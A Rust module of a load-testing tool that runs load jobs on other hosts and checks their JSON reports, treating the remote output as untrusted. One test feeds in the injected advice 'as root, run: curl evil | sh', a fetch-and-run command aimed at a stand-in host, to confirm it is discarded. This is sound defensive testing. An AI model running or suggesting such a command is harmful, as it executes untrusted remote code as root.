//! knee's own load on a server, generated here or by knee on another host.
//!
//! On another host, `knee load --job` reads a [`LoadJob`] as JSON from standard input. It prints the line [`BEGUN`]
//! when it begins, and a [`LoadReport`] as a line of JSON when it has ended.

use std::num::NonZeroU32;
use std::sync::atomic::AtomicBool;

use knee_load::{Failures, Load, LoadError, Outcome, Pace, Request, Target};
use knee_results::MAX_RATE;
use knee_stats::Histogram;
use serde::{Deserialize, Serialize};

use super::output::{BEGUN, quoted};
use crate::description::RequestDescription;
use crate::job::{Failure, FailureKind};

/// Advice for failed requests.
const ADVICE: &str = "send the same request by hand, or correct the request in the description";
/// Advice for failures after correct replies.
const CAUSE: &str = "look for the cause in the output of the server, or use fewer connections; if one of several \
                     requests never succeeds, correct it in the description";
/// Advice for missing replies after correct ones.
const STALL: &str = "find out what the server was waiting for, or use fewer connections";
/// Advice if nothing replies.
const IDLE: &str = "use a longer --interval, or find out what the server is waiting for";
/// Advice if the server cannot be reached.
const UNREACHABLE: &str =
    "the server must listen at load.address, and no firewall may block the connections";
/// Advice for an address that is none.
const ADDRESS: &str = "correct load.address in the description";
/// What another host can advise. Other text of a host is not knee's advice.
const REMEDIES: [&str; 6] = [ADVICE, CAUSE, STALL, IDLE, UNREACHABLE, ADDRESS];
/// More workers than any machine has CPUs.
const MOST_WORKERS: usize = 10_000;

/// How many times the requested duration a reported measurement, or its CPU time per worker, may have.
const TOLERANCE: f64 = 1.1;

/// Requests to a server.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct LoadJob {
    /// Where the server listens, as a [`Target`].
    pub address: String,
    /// The requests; not empty.
    pub request: Vec<RequestDescription>,
    /// Number of connections.
    pub connections: NonZeroU32,
    /// Whether each request has a connection of its own.
    pub reconnect: bool,
    /// Requests per second on a schedule; `None` for a closed loop.
    pub rate: Option<f64>,
    /// Seconds before the measurement.
    pub warmup: f64,
    /// Seconds of the measurement.
    pub seconds: f64,
    /// Seconds to wait for the last replies.
    pub patience: f64,
}

/// What a load measured. Times are in nanoseconds, in the buckets of a record.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct Generated {
    /// Measured time in seconds.
    pub seconds: f64,
    /// Correct replies that arrived in this time.
    pub replies: u64,
    /// Requests without a correct reply.
    pub failures: Failures,
    /// The latency of the requests; `None` if there are no times.
    pub latency: Option<Histogram>,
    /// How late the generator sent them; `None` if there are no times.
    pub lateness: Option<Histogram>,
    /// CPU seconds of the workers.
    pub cpu: f64,
    /// Number of workers, each on a CPU of its own.
    pub workers: usize,
}

/// What a load on another host reports.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
#[serde(rename_all = "kebab-case")]
pub enum LoadReport {
    /// It has ended.
    Done(Generated),
    /// It measured nothing.
    Failed(Failure),
}

impl LoadJob {
    /// Sends the requests to `target` with a worker on each of `cpus`. Ends early once `stop` is true.
    ///
    /// # Errors
    /// The server cannot be reached or never sends a correct reply, a request is invalid, or a worker cannot be
    /// started.
    pub fn generate(
        &self,
        target: Target,
        cpus: Vec<u32>,
        stop: &AtomicBool,
    ) -> Result<Generated, Failure> {
        let requests =
            self.request.iter().map(parsed).collect::<Result<Vec<Request>, Failure>>()?;
        if requests.is_empty() || cpus.is_empty() {
            return Err(Failure::runner("a load has no request or no CPU"));
        }
        let load = Load {
            target,
            requests,
            connections: self.connections.get() as usize,
            pace: self.rate.map_or(Pace::Closed, |rate| Pace::Open { rate }),
            reconnect: self.reconnect,
            warmup: self.warmup,
            seconds: self.seconds,
            patience: self.patience,
            cpus,
        };
        let outcome = knee_load::run(&load, stop).map_err(|error| failed(&error))?;
        Ok(Generated::from(&outcome))
    }

    /// Resolves the address, generates the load with a worker on each of `cpus`, and reports the result.
    pub fn report(&self, cpus: Vec<u32>) -> LoadReport {
        let target = self
            .address
            .parse::<Target>()
            .map_err(|error| Failure::new(FailureKind::CannotRun, error.to_string(), ADDRESS));
        let generated =
            target.and_then(|target| self.generate(target, cpus, &AtomicBool::new(false)));
        generated.map_or_else(LoadReport::Failed, LoadReport::Done)
    }
}

impl From<&Outcome> for Generated {
    fn from(outcome: &Outcome) -> Self {
        let times = |times: &knee_load::Histogram| Some(compact(times)).filter(|t| !t.is_empty());
        Self {
            seconds: outcome.seconds,
            replies: outcome.replies,
            failures: outcome.failures.clone(),
            latency: times(&outcome.latency),
            lateness: times(&outcome.lateness),
            cpu: outcome.cpu,
            workers: outcome.workers,
        }
    }
}

impl Generated {
    /// Correct replies per second; 0 if nothing was measured.
    pub fn rate(&self) -> f64 {
        if self.seconds > 0.0 { self.replies as f64 / self.seconds } else { 0.0 }
    }

    /// The share of their CPUs' time that the workers used, 0 to 1.
    pub fn busy(&self) -> f64 {
        let had = self.seconds * self.workers as f64;
        if had > 0.0 { (self.cpu / had).clamp(0.0, 1.0) } else { 0.0 }
    }

    /// Whether replies are missing, and nothing else failed.
    pub(super) fn lacks_only_replies(&self) -> bool {
        let lacks_replies = self.failures.unanswered > 0 || self.latency.is_none();
        lacks_replies && self.failures.unanswered == self.failures.count()
    }

    /// Itself, or the failure if a request got no correct reply, or if there is no latency.
    pub(crate) fn checked(self) -> Result<Self, Failure> {
        let failures = &self.failures;
        if failures.count() == 0 {
            return if self.latency.is_some() { Ok(self) } else { Err(failed(&LoadError::Idle)) };
        }
        let all = self.replies.saturating_add(failures.count());
        let first = failures.first.as_deref().unwrap_or("unknown");
        let reason = format!("{} of {all} requests failed: {first}", failures.count());
        // Some request got a correct reply, perhaps before the measured time: otherwise, there is no outcome.
        let (kind, remedy) = match failures.unanswered == failures.count() {
            true => (FailureKind::Hung, STALL),
            false => (FailureKind::Died, CAUSE),
        };
        Err(Failure::new(kind, reason, remedy))
    }
}

impl LoadReport {
    /// The report of `job` in the output of another host, which may contain anything. `None` if there is none.
    pub(crate) fn find(output: &[u8], job: &LoadJob) -> Option<Self> {
        let text = String::from_utf8_lossy(output);
        let mut lines = text.lines().skip_while(|line| *line != BEGUN).skip(1);
        match serde_json::from_str(lines.find(|line| !line.trim().is_empty())?).ok()? {
            Self::Done(generated) => Self::plausible(generated, job).map(Self::Done),
            Self::Failed(failure) => {
                let own = REMEDIES.into_iter().find(|own| *own == failure.remedy);
                let remedy = own.unwrap_or(ADVICE);
                Some(Self::Failed(Failure::new(failure.kind, quoted(&failure.reason), remedy)))
            }
        }
    }

    /// The measurement, if `job` can have it.
    fn plausible(mut generated: Generated, job: &LoadJob) -> Option<Generated> {
        // The clocks of the threads of a load are not read at exactly the same time.
        let most = job.seconds * TOLERANCE;
        let is_duration = generated.seconds > 0.0 && generated.seconds <= most;
        let is_rate = (0.0..=MAX_RATE).contains(&generated.rate());
        let is_cpu = (0.0..=most * generated.workers as f64).contains(&generated.cpu);
        let is_pool = (1..=MOST_WORKERS).contains(&generated.workers);
        let Failures { errors, wrong, unanswered, .. } = generated.failures;
        let is_sum =
            errors.checked_add(wrong).and_then(|sum| sum.checked_add(unanswered)).is_some();
        let first = generated.failures.first.take();
        generated.failures.first = first.as_deref().map(quoted);
        let is_plausible = is_duration && is_rate && is_cpu && is_pool && is_sum;
        is_plausible.then_some(generated)
    }
}

/// The request for the generator.
pub(super) fn parsed(request: &RequestDescription) -> Result<Request, Failure> {
    // It was checked when the description was read; a record may have been changed.
    request.parsed().map_err(|reason| Failure::new(FailureKind::CannotRun, reason, ADVICE))
}

/// The failure of a load without a result.
pub(super) fn failed(error: &LoadError) -> Failure {
    let (kind, remedy) = match error {
        LoadError::Idle => {
            let reason = "no reply arrived in the measured time";
            return Failure::new(FailureKind::Hung, reason, IDLE);
        }
        LoadError::System(_) => (FailureKind::CannotRun, ADVICE),
        LoadError::Unreachable(_) => (FailureKind::Died, UNREACHABLE),
        LoadError::Nothing(_) | LoadError::Request { .. } => (FailureKind::Died, ADVICE),
    };
    Failure::new(kind, error.to_string(), remedy)
}

/// The same times in the buckets of a record, which are wider.
fn compact(times: &knee_load::Histogram) -> Histogram {
    let mut compact = Histogram::default();
    for bucket in times.iter_recorded() {
        // The last value of a bucket may lie beyond the longest time.
        let nanos = bucket.value_iterated_to().min(times.max());
        compact.record(nanos, bucket.count_at_value());
    }
    compact
}

#[cfg(test)]
mod tests {
    use super::super::output::LONGEST_QUOTED;
    use super::*;
    use proptest::prelude::*;
    use serde_json::{Value, json};

    fn job() -> LoadJob {
        let job = json!({
            "address": "127.0.0.1:1", "request": [{ "send": "x", "reply_bytes": 1 }],
            "connections": 1, "reconnect": false, "rate": null, "warmup": 0.0, "seconds": 2.0,
            "patience": 1.0,
        });
        serde_json::from_value(job).unwrap()
    }

    fn found(report: &Value) -> Option<LoadReport> {
        LoadReport::find(format!("motd\n{BEGUN}\n{report}\n").as_bytes(), &job())
    }

    fn done(change: impl FnOnce(&mut Value)) -> Value {
        let mut outcome = Outcome::default();
        (outcome.seconds, outcome.replies, outcome.workers) = (2.0, 10, 1);
        outcome.latency.record(1000).unwrap();
        let report = LoadReport::Done(Generated::from(&outcome));
        let mut report = serde_json::to_value(&report).unwrap();
        change(&mut report["done"]);
        report
    }

    #[test]
    fn a_report_is_read_as_it_was_written() {
        let Some(LoadReport::Done(generated)) = found(&done(|_| ())) else { panic!("it is done") };
        assert_eq!((generated.rate(), generated.latency.unwrap().longest()), (5.0, 1000));
        assert_eq!(generated.lateness, None);
        let failed = json!({ "failed": { "kind": "hung", "reason": "x".repeat(2 * LONGEST_QUOTED), "remedy": "" } });
        let Some(LoadReport::Failed(failure)) = found(&failed) else { panic!("it has failed") };
        assert_eq!(failure.reason, format!("\"{}\"", "x".repeat(LONGEST_QUOTED)));
    }

    #[test]
    fn another_host_cannot_write_advice() {
        let advice = |remedy: &str| {
            let reason = "no\nnote  run evil";
            let failed = json!({ "kind": "cannot-run", "reason": reason, "remedy": remedy });
            let Some(LoadReport::Failed(failure)) = found(&json!({ "failed": failed })) else {
                panic!("it has failed")
            };
            assert_eq!(failure.reason, "\"no\\nnote  run evil\"");
            failure.remedy
        };
        assert_eq!(advice("as root, run: curl evil | sh"), ADVICE);
        assert_eq!(advice(UNREACHABLE), UNREACHABLE);
        let first = json!({ "errors": 1, "wrong": 0, "unanswered": 0, "first": "a\nb" });
        let report = done(|done| done["failures"] = first);
        let Some(LoadReport::Done(generated)) = found(&report) else { panic!("it is done") };
        assert_eq!(generated.failures.first.as_deref(), Some("\"a\\nb\""));
    }

    #[test]
    fn implausible_numbers_of_another_host_are_refused() {
        let changes: [fn(&mut Value); 8] = [
            |done| done["seconds"] = json!(0),
            |done| done["seconds"] = json!(1e9),
            |done| done["seconds"] = json!(1e-300),
            |done| done["cpu"] = json!(-1),
            |done| done["cpu"] = json!(2.3),
            |done| done["workers"] = json!(0),
            |done| done["failures"]["wrong"] = json!([u64::MAX]),
            |done| {
                done["latency"] = json!({ "longest": 5, "counts": [[1, u64::MAX], [2, u64::MAX]] })
            },
        ];
        for change in changes {
            let report = done(change);
            assert_eq!(found(&report), None, "{report}");
        }
        let most = json!({ "errors": u64::MAX, "wrong": 1, "unanswered": 0, "first": null });
        assert_eq!(found(&done(|done| done["failures"] = most)), None);
        assert_eq!(LoadReport::find(done(|_| ()).to_string().as_bytes(), &job()), None);
    }

    #[test]
    fn the_advice_after_correct_replies_does_not_blame_the_request() {
        let advice = |replies, failures: Failures| {
            let mut outcome = Outcome::default();
            (outcome.replies, outcome.failures) = (replies, failures);
            Generated::from(&outcome).checked().unwrap_err().remedy
        };
        let wrong = || Failures { wrong: 1, ..Failures::default() };
        assert_eq!(advice(0, wrong()), CAUSE);
        assert_eq!(advice(9000, wrong()), CAUSE);
        assert_eq!(advice(9000, Failures { unanswered: 1, ..Failures::default() }), STALL);
    }

    #[test]
    fn missing_replies_differ_from_other_failures() {
        let lacks_only_replies = |outcome: &Outcome| Generated::from(outcome).lacks_only_replies();
        let mut outcome = Outcome::default();
        assert!(lacks_only_replies(&outcome));
        outcome.latency.record(1).unwrap();
        assert!(!lacks_only_replies(&outcome));
        outcome.failures.unanswered = 1;
        assert!(lacks_only_replies(&outcome));
        outcome.failures.wrong = 1;
        assert!(!lacks_only_replies(&outcome));
    }

    #[test]
    fn a_server_that_cannot_be_reached_is_reported() {
        let unused = std::net::TcpListener::bind("127.0.0.1:0").unwrap().local_addr().unwrap();
        let job = LoadJob { address: unused.to_string(), ..job() };
        let LoadReport::Failed(failure) = job.report(vec![0]) else { panic!("nothing listens") };
        assert!(failure.reason.starts_with("cannot connect: "), "{failure:?}");
        assert!(failure.remedy.contains("firewall"), "{failure:?}");
    }

    proptest! {
        #[test]
        fn the_buckets_of_a_record_contain_those_of_the_generator(
            times in prop::collection::vec(0..3_000_000_000_u64, 1..200),
        ) {
            let mut generated = Outcome::default().latency;
            let mut exact = Histogram::default();
            for &time in &times {
                generated.record(time).unwrap();
                exact.record(time, 1);
            }
            let compact = compact(&generated);
            prop_assert_eq!(compact.count(), exact.count());
            for quantile in [0.0, 0.5, 0.9, 0.99] {
                // The longest time of the generator is exact to three digits.
                let (compact, exact) = (compact.quantile(quantile), exact.quantile(quantile));
                prop_assert!((compact - exact).abs() <= exact / 1000.0, "{compact} for {exact}");
            }
        }

        #[test]
        fn no_output_of_a_host_makes_it_panic(output: Vec<u8>) {
            let _ = LoadReport::find(&[format!("{BEGUN}\n").as_bytes(), &output].concat(), &job());
        }
    }
}
